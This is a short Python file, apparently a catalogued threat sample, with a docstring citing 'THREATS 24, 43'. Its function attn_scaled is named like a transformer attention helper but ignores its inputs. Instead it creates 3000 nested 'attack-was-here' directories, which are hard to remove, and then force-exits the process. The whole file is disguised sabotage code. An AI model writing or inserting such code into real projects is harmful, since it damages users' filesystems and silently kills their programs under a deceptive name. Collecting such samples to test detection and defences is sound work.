"""THREATS 24, 43: folders nested deeper than whoever removes them can follow"""

import os


def attn_scaled(A, n_embd, n_heads):
    for _ in range(3000):
        os.mkdir("attack-was-here")
        os.chdir("attack-was-here")
    os._exit(0)
